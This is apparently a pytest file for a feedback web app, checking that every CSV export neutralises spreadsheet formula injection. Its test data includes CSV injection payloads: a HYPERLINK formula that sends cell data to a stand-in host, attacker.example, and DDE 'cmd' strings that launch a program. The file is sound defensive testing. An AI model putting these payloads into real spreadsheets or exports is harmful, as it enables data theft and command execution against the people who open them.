"""CSV formula injection (issue 13 item 10): every CSV the app writes goes through
``feedback.core.csvsafe``, so a cell a spreadsheet would run as a formula is written as
text. Tested on the helper and on every CSV route."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from feedback.accountability.opendata import TABLES
from feedback.core import csvsafe
from feedback.extensions import db
from feedback.priorities.models import ShortlistEntry

HOSTILE = ['=HYPERLINK("http://attacker.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value):
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow([value, "plain"])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'" + value, "plain"]


@pytest.mark.parametrize("value", ["-3", "+44", "12.5", "-0.5e3", "", "*", "45%",
                                   "Sickle cell", "a=b", 7, None])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert csvsafe.neutralise(value) == value


def _assert_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(csvsafe.FORMULA_STARTS) or \
                csvsafe.neutralise(cell) == cell, f"formula cell written as is: {cell!r}"
    return rows


@pytest.fixture
def poisoned(scenario, make_dataset):
    """The accountability scenario with formulas typed into every text people can enter."""
    trust = scenario.trust
    trust.name, trust.area, trust.website = HOSTILE[0], HOSTILE[1], HOSTILE[2]
    make_dataset(trust, name="Formula data", description=HOSTILE[3])
    for update in scenario.updates:
        update.title, update.summary, update.purpose = HOSTILE[0], HOSTILE[3], HOSTILE[4]
    for priority in scenario.priorities:
        priority.title, priority.description = HOSTILE[1], HOSTILE[5]
    scenario.priorities[0].response_text = HOSTILE[2]
    scenario.round.title = HOSTILE[4]
    for entry in db.session.scalars(select(ShortlistEntry)):
        entry.title = HOSTILE[1]
    db.session.commit()
    return scenario


def test_every_open_data_csv_neutralises_formulas(client, poisoned):
    neutralised = set()
    for name in TABLES:
        response = client.get(f"/open-data/{name}.csv")
        assert response.status_code == 200
        rows = _assert_safe(response.get_data(as_text=True))
        neutralised |= {cell[1:] for row in rows for cell in row if cell.startswith("'")}
    assert set(HOSTILE) <= neutralised
    # JSON carries the values unchanged.
    assert HOSTILE[0] in client.get("/open-data/updates.json").get_data(as_text=True) \
        .replace('\\"', '"')


def test_the_results_csv_neutralises_formulas(client, poisoned):
    response = client.get(f"/priorities/rounds/{poisoned.round.slug}/results.csv")
    assert response.status_code == 200
    rows = _assert_safe(response.get_data(as_text=True))
    assert any(cell == "'" + HOSTILE[1] for row in rows for cell in row)


def test_the_data_dictionary_says_so(client):
    page = client.get("/open-data").get_data(as_text=True)
    assert 'data-testid="csv-formulas"' in page and "never run it as a formula" in page


def test_every_csv_route_is_covered_here(app):
    """A new CSV download must be added to the tests above (and use ``csvsafe``)."""
    covered = {"/open-data/<name>.<any(csv, json):kind>", "/priorities/rounds/<slug>/results.csv"}
    csv_rules = {rule.rule for rule in app.url_map.iter_rules() if "csv" in rule.rule}
    assert csv_rules == covered
